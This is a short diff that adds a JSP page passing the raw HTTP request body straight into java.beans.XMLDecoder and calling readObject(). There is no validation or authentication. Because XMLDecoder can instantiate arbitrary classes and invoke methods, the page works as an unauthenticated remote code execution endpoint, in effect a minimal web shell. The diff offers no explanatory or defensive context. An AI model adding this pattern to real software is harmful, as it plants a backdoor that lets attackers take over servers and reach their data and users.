@@ -1,0 +1,5 @@
+<%@ page import="java.beans.XMLDecoder" %>
+<%
+XMLDecoder d = new XMLDecoder(request.getInputStream());
+Object o = d.readObject();
+%>
